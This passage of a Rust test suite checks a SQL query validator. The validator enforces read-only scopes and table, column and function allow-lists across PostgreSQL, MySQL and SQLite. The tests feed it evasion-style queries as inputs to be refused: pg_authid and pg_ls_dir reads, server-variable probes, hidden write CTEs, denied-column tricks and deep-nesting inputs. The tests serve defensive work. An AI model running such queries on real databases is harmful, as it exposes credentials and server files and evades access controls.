        "SELECT to_regclass('pg_authid')",
        "SELECT row_security_active('orders')",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::FunctionNotAllowed), "{sql}");
    }
    assert!(message(&h, "SELECT * FROM crosstab('x') AS ct(a text)").contains("crosstab"));
    assert!(message(&h, "SELECT Public.My_Fn()").contains("Public.My_Fn"));
    for sql in [
        "SELECT DATABASE()",
        "SELECT USER()",
        "SELECT CONNECTION_ID()",
        "SELECT LAST_INSERT_ID(5)",
        "SELECT NEXTVAL(s)",
        "SELECT UPDATEXML('<a/>', '/a', '<b/>')",
        "SELECT test.my_fn()",
        "SELECT BINLOG_GTID_POS('x', 1)",
        "SELECT MASTER_POS_WAIT('x', 1)",
    ] {
        assert_eq!(
            code(&ro(HandleKind::Mysql), sql),
            Some(ErrorCode::FunctionNotAllowed),
            "{sql}"
        );
    }
    for sql in [
        "SELECT changes()",
        "SELECT last_insert_rowid()",
        "SELECT total_changes()",
        "SELECT sqlite_version()",
        "SELECT fts3_tokenizer('x')",
        "SELECT my_fn(1)",
    ] {
        assert_eq!(
            code(&ro(HandleKind::Sqlite), sql),
            Some(ErrorCode::FunctionNotAllowed),
            "{sql}"
        );
    }
}

#[test]
fn t25_only_the_servers_own_catalog_qualifies_a_builtin() {
    let h = ro(HandleKind::Postgres);
    for sql in [
        "SELECT public.lower('x')",
        "SELECT app.lower('x')",
        "SELECT \"PG_CATALOG\".lower('x')",
        "SELECT \"LOWER\"('x')",
        "SELECT test.pg_catalog.lower('x')",
        "SELECT information_schema._pg_expandarray(ARRAY[1])",
        "SELECT pg_catalog.crosstab('x')",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::FunctionNotAllowed), "{sql}");
    }
    for sql in [
        "SELECT test.lower('x')",
        "SELECT mysql.lower('x')",
        "SELECT `test`.`upper`('x')",
    ] {
        assert_eq!(
            code(&ro(HandleKind::Mysql), sql),
            Some(ErrorCode::FunctionNotAllowed),
            "{sql}"
        );
    }
    let c = code(&ro(HandleKind::Sqlite), "SELECT main.lower('x')");
    assert!(
        matches!(
            c,
            Some(ErrorCode::FunctionNotAllowed | ErrorCode::InvalidSql)
        ),
        "{c:?}"
    );
}

#[test]
fn t25_a_handle_allows_its_own_functions_by_exact_name() {
    let h = allowing(
        HandleKind::Postgres,
        Scope::ReadOnly,
        &["my_fn", "app.order_total"],
    );
    for sql in [
        "SELECT my_fn()",
        "SELECT MY_FN(1)",
        "SELECT app.order_total(1)",
        "SELECT App.Order_Total(1)",
        "SELECT * FROM my_fn() AS t(x int)",
    ] {
        assert_eq!(code(&h, sql), None, "{sql}");
        // On a read-only handle it runs in a read-only transaction: not a write.
        assert!(!check(&h, sql).unwrap().is_write(), "{sql}");
    }
    for sql in [
        "SELECT order_total(1)",
        "SELECT public.my_fn()",
        "SELECT other.order_total(1)",
        "SELECT \"MY_FN\"()",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::FunctionNotAllowed), "{sql}");
    }
    // On a read-write handle a function of the handle's may change data: it counts as a write.
    let h = allowing(HandleKind::Postgres, Scope::ReadWrite, &["my_fn"]);
    assert!(check(&h, "SELECT my_fn()").unwrap().is_write());
    assert!(!check(&h, "SELECT lower('x')").unwrap().is_write());
    let h = allowing(HandleKind::Mysql, Scope::ReadOnly, &["app.f"]);
    assert_eq!(code(&h, "SELECT `app`.`f`(1), APP.F(2)"), None);
}

#[test]
fn t25_catalog_functions_need_allow_catalogs() {
    let plain = ro(HandleKind::Mysql);
    let cat = with(HandleKind::Mysql, Scope::ReadOnly, |d| {
        d.allow_catalogs = true
    });
    for sql in [
        "SELECT DATABASE()",
        "SELECT CURRENT_USER()",
        "SELECT COLLATION('x')",
    ] {
        assert_eq!(
            code(&plain, sql),
            Some(ErrorCode::FunctionNotAllowed),
            "{sql}"
        );
        assert_eq!(code(&cat, sql), None, "{sql}");
    }
    let cat = with(HandleKind::Postgres, Scope::ReadOnly, |d| {
        d.allow_catalogs = true
    });
    assert_eq!(
        code(&cat, "SELECT pg_catalog.pg_get_viewdef('v'::regclass)"),
        None
    );
    assert_eq!(
        code(&cat, "SELECT pg_ls_dir('.')"),
        Some(ErrorCode::FunctionNotAllowed)
    );
}

#[test]
fn t25_user_defined_operators_are_refused() {
    let h = ro(HandleKind::Postgres);
    for sql in [
        "SELECT 1 OPERATOR(public.+) 2",
        "SELECT a === b FROM orders",
    ] {
        let c = code(&h, sql);
        assert!(
            matches!(
                c,
                Some(ErrorCode::FunctionNotAllowed | ErrorCode::InvalidSql)
            ),
            "{sql}: {c:?}"
        );
    }
    assert_eq!(
        code(&h, "SELECT 1 OPERATOR(pg_catalog.+) 2"),
        Some(ErrorCode::FunctionNotAllowed)
    );
    assert_eq!(
        code(
            &h,
            "SELECT '{\"a\":1}'::jsonb -> 'a', '{1}'::int[] @> '{1}'"
        ),
        None
    );
}

#[test]
fn t26_data_modifying_cte_in_a_select_is_a_write() {
    let sql = "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT count(*) FROM d";
    assert_eq!(
        code(&ro(HandleKind::Postgres), sql),
        Some(ErrorCode::StatementNotAllowed)
    );
    let q = check(&rw(HandleKind::Postgres), sql).unwrap();
    assert!(q.is_write(), "the approval rule for writes must see it");
    for sql in [
        "WITH u AS (UPDATE orders SET a = 1 RETURNING id) SELECT * FROM u",
        "WITH i AS (INSERT INTO orders (a) VALUES (1) RETURNING id) SELECT * FROM i",
        "SELECT * FROM orders WHERE id IN (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d)",
        "WITH x AS (SELECT 1), d AS (DELETE FROM orders RETURNING id) SELECT * FROM x",
    ] {
        assert_eq!(code(&ro(HandleKind::Postgres), sql), Some(ErrorCode::StatementNotAllowed), "{sql}");
        let r = check(&rw(HandleKind::Postgres), sql);
        assert!(r.as_ref().is_ok_and(|q| q.is_write()), "{sql}: {:?}", r.err());
    }
}

#[test]
fn t26_sequence_and_large_object_functions_are_writes_when_allowed() {
    for f in [
        "nextval",
        "setval",
        "lo_create",
        "lo_unlink",
        "lowrite",
        "pg_advisory_lock",
    ] {
        let sql = format!("SELECT {f}(1)");
        // Not built in: refused on any handle that does not name them.
        assert_eq!(
            code(&rw(HandleKind::Postgres), &sql),
            Some(ErrorCode::FunctionNotAllowed),
            "{f}"
        );
        // Named by a read-only handle: still refused, as a write.
        let h = allowing(HandleKind::Postgres, Scope::ReadOnly, &[f]);
        assert_eq!(code(&h, &sql), Some(ErrorCode::StatementNotAllowed), "{f}");
        assert!(message(&h, &sql).contains("read-only"), "{f}");
        // Named by a read-write handle: allowed, and a write.
        let h = allowing(HandleKind::Postgres, Scope::ReadWrite, &[f]);
        assert!(check(&h, &sql).unwrap().is_write(), "{f}");
        // Wherever it hides.
        let nested =
            format!("SELECT a FROM orders WHERE a > (SELECT max(x) FROM (SELECT {f}(1) AS x) s)");
        assert!(check(&h, &nested).unwrap().is_write(), "{f}");
        assert_eq!(
            code(
                &allowing(HandleKind::Postgres, Scope::ReadOnly, &[f]),
                &nested
            ),
            Some(ErrorCode::StatementNotAllowed),
            "{f}"
        );
    }
    let h = allowing(
        HandleKind::Mysql,
        Scope::ReadWrite,
        &["nextval", "get_lock"],
    );
    assert!(check(&h, "SELECT NEXTVAL(s)").unwrap().is_write());
    assert!(check(&h, "SELECT GET_LOCK('x', 0)").unwrap().is_write());
}

#[test]
fn t26_select_into_and_locking_clauses_are_writes() {
    for k in [HandleKind::Postgres, HandleKind::Mysql] {
        for sql in [
            "SELECT * FROM orders FOR UPDATE",
            "SELECT * FROM orders FOR SHARE",
            "SELECT * FROM orders WHERE id IN (SELECT id FROM orders FOR UPDATE)",
            "SELECT * FROM (SELECT * FROM orders FOR UPDATE) s",
            "WITH l AS (SELECT * FROM orders FOR UPDATE) SELECT * FROM l",
        ] {
            let e = check(&ro(k), sql).unwrap_err();
            assert_eq!(e.code, ErrorCode::StatementNotAllowed, "{k:?}: {sql}");
            assert!(
                e.message.contains("read-only"),
                "{k:?}: {sql}: {}",
                e.message
            );
            assert!(check(&rw(k), sql).unwrap().is_write(), "{k:?}: {sql}");
        }
    }
    // MySQL's older spelling does not parse here: refused either way.
    assert_eq!(
        code(
            &rw(HandleKind::Mysql),
            "SELECT * FROM orders LOCK IN SHARE MODE"
        ),
        Some(ErrorCode::InvalidSql)
    );
    // SELECT ... INTO: a write, and refused in every scope.
    let e = check(&ro(HandleKind::Postgres), "SELECT * INTO t2 FROM orders").unwrap_err();
    assert_eq!(e.code, ErrorCode::StatementNotAllowed);
    assert!(e.message.contains("read-only"), "{}", e.message);
    assert_eq!(
        code(&rw(HandleKind::Postgres), "SELECT * INTO t2 FROM orders"),
        Some(ErrorCode::StatementNotAllowed)
    );
    // Plain reads stay reads.
    for k in ALL {
        assert!(
            !check(&rw(k), "SELECT a FROM orders WHERE a IN (SELECT 1)")
                .unwrap()
                .is_write(),
            "{k:?}"
        );
    }
}

#[test]
fn t26_call_is_a_write_and_needs_a_named_procedure() {
    let sql = "CALL refresh_totals(1)";
    assert_eq!(
        code(&ro(HandleKind::Postgres), sql),
        Some(ErrorCode::StatementNotAllowed)
    );
    assert_eq!(
        code(
            &allowing(HandleKind::Postgres, Scope::ReadOnly, &["refresh_totals"]),
            sql
        ),
        Some(ErrorCode::StatementNotAllowed)
    );
    assert_eq!(
        code(&rw(HandleKind::Postgres), sql),
        Some(ErrorCode::FunctionNotAllowed)
    );
    let h = allowing(HandleKind::Postgres, Scope::ReadWrite, &["refresh_totals"]);
    assert!(check(&h, sql).unwrap().is_write());
    // Its arguments are checked like any expression.
    assert_eq!(
        code(&h, "CALL refresh_totals(my_fn())"),
        Some(ErrorCode::FunctionNotAllowed)
    );
    assert_eq!(
        code(&h, "CALL refresh_totals((SELECT 1 FROM pg_authid))"),
        Some(ErrorCode::TableNotAllowed)
    );
    let h = allowing(HandleKind::Mysql, Scope::ReadWrite, &["p"]);
    assert!(check(&h, "CALL p(1)").unwrap().is_write());
}

#[test]
fn t20_a_megabyte_statement_is_refused_by_size() {
    for k in ALL {
        let big = format!("SELECT '{}'", "x".repeat(1 << 20));
        let e = check(&ro(k), &big).unwrap_err();
        assert_eq!(e.code, ErrorCode::LimitExceeded, "{k:?}");
        assert!(e.message.contains("bytes"), "{}", e.message);
    }
}

/// Runs `f` on a thread with a small stack (a quarter of tokio's default worker stack), so a
/// validator that recursed over a deep tree would overflow here rather than pass by luck.
fn on_small_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(512 * 1024)
        .spawn(f)
        .unwrap()
        .join()
        .expect("no panic, no stack overflow")
}

#[test]
fn t20_ten_thousand_levels_of_nesting_get_a_stable_code_without_crashing() {
    const N: usize = 10_000;
    // `open` N times (or as many as fit in MAX_QUERY_BYTES), then `core`, then `close` as often.
    let nest = |head: &str, open: &str, core: &str, close: &str| {
        let n = N.min((MAX_QUERY_BYTES - head.len() - core.len()) / (open.len() + close.len()));
        format!("{head}{}{core}{}", open.repeat(n), close.repeat(n))
    };
    let shapes: Vec<(&str, String)> = vec![
        ("parentheses", nest("SELECT ", "(", "1", ")")),
        ("function calls", nest("SELECT ", "abs(", "1", ")")),
        ("subqueries", nest("SELECT ", "(SELECT ", "1", ")")),
        (
            "derived tables",
            nest("SELECT * FROM ", "(SELECT * FROM ", "orders", ") a"),
        ),
        (
            "case",
            nest("SELECT ", "CASE WHEN 1 = 1 THEN ", "1", " END"),
        ),
        ("array", nest("SELECT ", "ARRAY[", "1", "]")),
        ("unary minus", nest("SELECT ", "- ", "1", "")),
        ("not", nest("SELECT ", "NOT ", "true", "")),
        ("plus chain", nest("SELECT 1", "+1", "", "")),
        ("and chain", nest("SELECT 1 WHERE a", " AND a", "", "")),
        ("cast chain", nest("SELECT 1", "::int", "", "")),
        ("json chain", nest("SELECT a", "->'k'", "", "")),
        ("concat chain", nest("SELECT a", " || a", "", "")),
        ("union chain", nest("SELECT 1", " UNION SELECT 1", "", "")),
        ("collate chain", nest("SELECT a", " COLLATE c", "", "")),
        ("is null chain", nest("SELECT a", " IS NULL", "", "")),
        // Under the operator limit, over the walk's depth limit.
        (
            "plus chain under the operator limit",
            format!("SELECT 1{}", "+1".repeat(MAX_OPERATORS)),
        ),
        (
            "union chain under the operator limit",
            format!("SELECT 1{}", " UNION SELECT 1".repeat(MAX_OPERATORS / 2)),
        ),
    ];
    for (what, sql) in shapes {
        assert!(sql.len() <= MAX_QUERY_BYTES, "{what}: {} bytes", sql.len());
        for k in ALL {
            if what == "array" && k == HandleKind::Sqlite {
                // `[...]` quotes an identifier in SQLite: nothing nests.
                continue;
            }
            let s = sql.clone();
            let c = on_small_stack(move || code(&ro(k), &s));
            assert!(
                matches!(c, Some(ErrorCode::LimitExceeded | ErrorCode::InvalidSql)),
                "{k:?} {what}: {c:?}"
            );
        }
    }
    // A long flat list is not deep: it passes.
    let list = format!("SELECT 1 WHERE 1 IN ({})", vec!["1"; N].join(","));
    for k in ALL {
        let s = list.clone();
        assert_eq!(on_small_stack(move || code(&ro(k), &s)), None, "{k:?}");
    }
    // And the deepest statement the limits let through validates on the small stack too.
    let deep = format!("SELECT {}1", "1 + ".repeat(MAX_DEPTH - 8));
    for k in ALL {
        let s = deep.clone();
        assert_eq!(on_small_stack(move || code(&ro(k), &s)), None, "{k:?}");
    }
}

// Column rules.

fn columns(kind: HandleKind, scope: Scope) -> Handle {
    with(kind, scope, |d| {
        d.tables = Some(vec!["orders".into(), "customers".into(), "items".into()]);
        d.columns.insert(
            "orders".into(),
            TableColumns {
                columns: Some(vec!["id".into(), "total".into()]),
                deny_columns: vec![],
            },
        );
        d.columns.insert(
            "customers".into(),
            TableColumns {
                columns: None,
                deny_columns: vec!["ssn".into()],
            },
        );
    })
}

#[test]
fn t25_allowed_columns_pass() {
    for k in ALL {
        let h = columns(k, Scope::ReadOnly);
        for sql in [
            "SELECT id, total FROM orders",
            "SELECT o.id, o.total FROM orders o WHERE o.total > 10 ORDER BY o.id",
            "SELECT name FROM customers",
            "SELECT c.name, o.total FROM customers c JOIN orders o ON o.id = c.id",
            "SELECT count(*) FROM customers",
            "SELECT total AS t FROM orders ORDER BY t",
            "SELECT id AS ssn FROM customers ORDER BY ssn",
            "SELECT id FROM orders ORDER BY 1",
            "SELECT * FROM items",
            "SELECT i.* FROM items i JOIN orders o ON o.id = i.id",
            "WITH x AS (SELECT id, total FROM orders) SELECT * FROM x",
            "SELECT * FROM (SELECT id FROM orders) s",
            "SELECT customers.name FROM orders, customers",
            "SELECT upper(c.name), sum(total) FROM customers c JOIN orders o ON o.id = c.id GROUP BY upper(c.name)",
            "SELECT 1 WHERE EXISTS (SELECT 1 FROM customers WHERE name = 'x')",
            "WITH customers AS (SELECT 1 AS ssn) SELECT ssn FROM customers",
        ] {
            assert_eq!(code(&h, sql), None, "{k:?}: {sql}");
        }
    }
}

#[test]
fn t25_denied_columns_are_refused_wherever_they_appear() {
    for k in ALL {
        let h = columns(k, Scope::ReadOnly);
        for sql in [
            "SELECT * FROM orders",
            "SELECT * FROM customers",
            "SELECT o.* FROM orders o",
            "SELECT c.* FROM customers c JOIN orders o ON o.id = c.id",
            "SELECT note FROM orders",
            "SELECT ssn FROM customers",
            "SELECT c.ssn FROM customers c",
            "SELECT customers.ssn FROM customers",
            "SELECT upper(ssn) FROM customers",
            "SELECT substr(upper(c.ssn), 1, 4) FROM customers c",
            "SELECT name FROM customers WHERE ssn LIKE '1%'",
            "SELECT name FROM customers c JOIN orders o ON c.ssn = o.id",
            "SELECT count(*) FROM customers GROUP BY ssn",
            "SELECT name FROM customers ORDER BY ssn",
            "SELECT name FROM customers GROUP BY name HAVING max(ssn) > ''",
            "SELECT (SELECT max(ssn) FROM customers)",
            "SELECT id FROM orders WHERE id IN (SELECT ssn FROM customers)",
            "SELECT id FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.ssn = o.id)",
            "WITH x AS (SELECT ssn FROM customers) SELECT 1 FROM x",
            "SELECT id FROM orders JOIN customers USING (ssn)",
            "SELECT id FROM orders NATURAL JOIN customers",
            "SELECT count(DISTINCT ssn) FROM customers",
            "SELECT row_number() OVER (ORDER BY ssn) FROM customers",
            "SELECT CASE WHEN ssn = '1' THEN 1 END FROM customers",
            "SELECT name FROM orders, customers",
            "SELECT id FROM orders UNION SELECT ssn FROM customers",
            "SELECT 1 UNION TABLE customers",
        ] {
            assert_eq!(
                code(&h, sql),
                Some(ErrorCode::ColumnNotAllowed),
                "{k:?}: {sql}"
            );
        }
        assert!(message(&h, "SELECT c.ssn FROM customers c").contains("ssn"));
        assert!(message(&h, "SELECT * FROM customers").contains("customers"));
    }
    let h = columns(HandleKind::Postgres, Scope::ReadOnly);
    for sql in [
        // Whole rows.
        "SELECT to_json(c) FROM customers c",
        "SELECT c FROM customers c",
        "SELECT row_to_json(customers) FROM customers",
        "SELECT count(c.*) FROM customers c",
        "SELECT (c).ssn FROM customers c",
        "SELECT x.v FROM customers c, LATERAL (SELECT c.ssn AS v) x",
        "SELECT \"SSN\" FROM customers",
        "SELECT \"Total\" FROM orders",
        "SELECT total FROM orders WHERE total > (SELECT count(ssn) FROM customers)",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::ColumnNotAllowed), "{sql}");
    }
}

#[test]
fn t25_column_rules_hold_for_writes_too() {
    for k in ALL {
        let h = columns(k, Scope::ReadWrite);
        for sql in [
            "UPDATE orders SET total = 1 WHERE id = 2",
            "INSERT INTO orders (id, total) VALUES (1, 2)",
            "DELETE FROM customers WHERE name = 'x'",
            "UPDATE customers SET name = 'x' WHERE id = 1",
        ] {
            assert_eq!(code(&h, sql), None, "{k:?}: {sql}");
        }
        for sql in [
            "UPDATE customers SET name = ssn",
            "UPDATE customers SET ssn = 'x'",
            "UPDATE orders SET note = 'x'",
            "INSERT INTO orders VALUES (1, 2)",
            "INSERT INTO customers (name, ssn) VALUES ('a', 'b')",
            "INSERT INTO orders (id, total) SELECT ssn, 1 FROM customers",
            "DELETE FROM customers WHERE ssn = '1'",
        ] {
            assert_eq!(
                code(&h, sql),
                Some(ErrorCode::ColumnNotAllowed),
                "{k:?}: {sql}"
            );
        }
    }
    let h = columns(HandleKind::Postgres, Scope::ReadWrite);
    for sql in [
        "DELETE FROM customers RETURNING *",
        "DELETE FROM customers RETURNING ssn",
        "INSERT INTO customers (id, name) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET name = excluded.ssn",
        "WITH d AS (DELETE FROM customers RETURNING ssn) SELECT * FROM d",
        "UPDATE orders o SET total = c.id FROM customers c WHERE c.ssn = '1'",
        "MERGE INTO customers c USING orders o ON c.id = o.id WHEN MATCHED THEN DELETE",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::ColumnNotAllowed), "{sql}");
    }
    assert_eq!(
        code(&h, "DELETE FROM customers WHERE id = 1 RETURNING id, name"),
        None
    );
    let h = columns(HandleKind::Mysql, Scope::ReadWrite);
    assert_eq!(
        code(&h, "INSERT INTO customers (id, name) VALUES (1, 'a') ON DUPLICATE KEY UPDATE name = VALUES(ssn)"),
        Some(ErrorCode::ColumnNotAllowed)
    );
}

mod spelled {
    //! Table and column names in every case and quoting, against the allow-lists.
    use super::*;
    use proptest::prelude::*;

    /// `name` in a random case, bare or quoted the dialect's ways; with whether the database
    /// sees exactly `name` (PostgreSQL folds bare names, keeps quoted ones; MySQL and SQLite
    /// ignore case).
    fn spelling(kind: HandleKind, name: &'static str) -> impl Strategy<Value = (String, bool)> {
        let quotes: Vec<(&str, &str)> = match kind {
            HandleKind::Mysql => vec![("", ""), ("`", "`")],
            HandleKind::Sqlite => vec![("", ""), ("\"", "\""), ("`", "`"), ("[", "]")],
            _ => vec![("", ""), ("\"", "\"")],
        };
        (
            proptest::collection::vec(any::<bool>(), name.len()),
            proptest::sample::select(quotes),
        )
            .prop_map(move |(upper, (open, close))| {
                let cased: String = name
                    .chars()
                    .zip(upper)
                    .map(|(c, u)| if u { c.to_ascii_uppercase() } else { c })
                    .collect();
                let exact = kind != HandleKind::Postgres || open.is_empty() || cased == name;
                (format!("{open}{cased}{close}"), exact)
            })
    }

    fn kinds() -> impl Strategy<Value = HandleKind> {
        proptest::sample::select(vec![
            HandleKind::Postgres,
            HandleKind::Mysql,
            HandleKind::Sqlite,
        ])
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn t01_a_listed_table_is_allowed_exactly_when_the_database_would_find_it(
            (kind, t) in kinds().prop_flat_map(|k| (Just(k), spelling(k, "orders")))
        ) {
            let (table, exact) = t;
            let h = listed(kind, Scope::ReadOnly);
            let c = code(&h, &format!("SELECT count(*) FROM {table}"));
            prop_assert_eq!(c, if exact { None } else { Some(ErrorCode::TableNotAllowed) }, "{:?} {}", kind, table);
        }

        #[test]
        fn t01_an_unlisted_table_is_refused_in_every_spelling(
            (kind, t) in kinds().prop_flat_map(|k| (Just(k), spelling(k, "secrets")))
        ) {
            let (table, _) = t;
            let h = listed(kind, Scope::ReadOnly);
            prop_assert_eq!(code(&h, &format!("SELECT count(*) FROM {table}")), Some(ErrorCode::TableNotAllowed));
            prop_assert_eq!(code(&h, &format!("SELECT 1 FROM orders WHERE 1 IN (SELECT 1 FROM {table})")), Some(ErrorCode::TableNotAllowed));
        }

        #[test]
        fn t25_a_denied_column_is_refused_in_every_spelling(
            (kind, col, table, alias) in kinds().prop_flat_map(|k| (Just(k), spelling(k, "ssn"), spelling(k, "customers"), spelling(k, "c")))
        ) {
            let h = columns(kind, Scope::ReadOnly);
            let (col, _) = col;
            let (alias, _) = alias;
            for sql in [
                format!("SELECT {col} FROM customers"),
                format!("SELECT {alias}.{col} FROM customers {alias}"),
                format!("SELECT name FROM customers {alias} WHERE upper({alias}.{col}) = 'X'"),
            ] {
                prop_assert_eq!(code(&h, &sql), Some(ErrorCode::ColumnNotAllowed), "{:?} {}", kind, sql);
            }
            let (table, exact) = table;
            let sql = format!("SELECT {col} FROM {table}");
            let want = if exact { ErrorCode::ColumnNotAllowed } else { ErrorCode::TableNotAllowed };
            prop_assert_eq!(code(&h, &sql), Some(want), "{:?} {}", kind, sql);
        }

        #[test]
        fn t25_a_listed_column_passes_exactly_when_the_database_would_find_it(
            (kind, allowed, other) in kinds().prop_flat_map(|k| (Just(k), spelling(k, "total"), spelling(k, "note")))
        ) {
            let h = columns(kind, Scope::ReadOnly);
            let (allowed, exact) = allowed;
            let c = code(&h, &format!("SELECT {allowed} FROM orders o WHERE o.{allowed} > 1"));
            prop_assert_eq!(c, if exact { None } else { Some(ErrorCode::ColumnNotAllowed) }, "{:?} {}", kind, allowed);
            let (other, _) = other;
            prop_assert_eq!(code(&h, &format!("SELECT o.{other} FROM orders o")), Some(ErrorCode::ColumnNotAllowed));
        }
    }
}

#[test]
fn t01_mysql_server_and_session_variables_are_refused_in_every_position_and_spelling() {
    for h in [ro(HandleKind::Mysql), rw(HandleKind::Mysql), listed(HandleKind::Mysql, Scope::ReadOnly)] {
        for sql in [
            "SELECT @@datadir",
            "SELECT @@DATADIR",
            "SELECT @@global.secure_file_priv",
            "SELECT @@GLOBAL.secure_file_priv",
            "SELECT @@session.sql_mode",
            "SELECT @@local.sql_mode",
            "SELECT @x",
            "SELECT 1 FROM orders WHERE id = @@port",
            "SELECT id FROM orders ORDER BY @@version_comment",
            "SELECT concat('v', @@version) AS v FROM orders",
            "SELECT id FROM orders UNION SELECT @@hostname",
            "SELECT (SELECT @@basedir) AS b",
            "SELECT CASE WHEN @@port > 0 THEN 1 END",
        ] {
            assert_eq!(code(&h, sql), Some(ErrorCode::FunctionNotAllowed), "{sql}");
        }
        // Spellings the parser does not take at all.
        for sql in ["SELECT @`x`", "SELECT @@ version"] {
            assert_eq!(code(&h, sql), Some(ErrorCode::InvalidSql), "{sql}");
        }
        // A quoted column whose name begins with @ is a column.
        assert_eq!(code(&h, "SELECT `@@datadir` FROM orders"), None);
    }
}

/// Walks every dialect's whole lists: a built-in (and, under `allow_catalogs`, a catalog
/// function) never taints the session; every state-changing function and every function allowed
/// only by the handle does, in every scope where it is allowed, called directly, nested in
/// another call, in a subquery or in a CTE.
#[test]
fn t26_only_functions_off_the_built_in_lists_taint_the_session() {
    use super::functions::lists;
    let wraps = |f: &str| {
        [
            format!("SELECT {f}(a) FROM orders"),
            format!("SELECT coalesce({f}(a), {f}(a)) FROM orders"),
            format!("SELECT a FROM orders WHERE a IN (SELECT {f}(a) FROM orders)"),
            format!("WITH w AS (SELECT {f}(a) AS x FROM orders) SELECT x FROM w"),
        ]
    };
    for k in ALL {
        let l = lists(k);
        let catalogs = with(k, Scope::ReadWrite, |d| d.allow_catalogs = true);
        // A few names are keywords the parser does not take in this position (`trim(a)` in
        // MySQL); the walk must still check nearly all of them.
        let (mut walked, mut checked) = (0, 0);
        for (names, h) in [(l.builtin, rw(k)), (l.catalog, catalogs)] {
            for f in names.iter().filter(|f| !l.syntax.contains(f)) {
                for sql in wraps(f) {
                    walked += 1;
                    if let Ok(q) = check(&h, &sql) {
                        checked += 1;
                        assert!(!q.taints_session(), "{k:?}: {sql}");
                    }
                }
            }
        }
        assert!(checked * 10 >= walked * 9, "{k:?}: {checked} of {walked} checked");
        let plain = check(&rw(k), "SELECT a FROM orders").unwrap();
        assert!(!plain.taints_session(), "{k:?}");
        for f in l.writes {
            let h = allowing(k, Scope::ReadWrite, &[f]);
            for sql in wraps(f) {
                let q = check(&h, &sql).unwrap_or_else(|e| panic!("{k:?}: {sql}: {e:?}"));
                assert!(q.taints_session(), "{k:?}: {sql}");
            }
        }
        for scope in [Scope::ReadOnly, Scope::ReadWrite] {
            let h = allowing(k, scope, &["my_fn"]);
            for sql in wraps("my_fn") {
                let q = check(&h, &sql).unwrap_or_else(|e| panic!("{k:?} {scope:?}: {sql}: {e:?}"));
                assert!(q.taints_session(), "{k:?} {scope:?}: {sql}");
            }
        }
    }
}
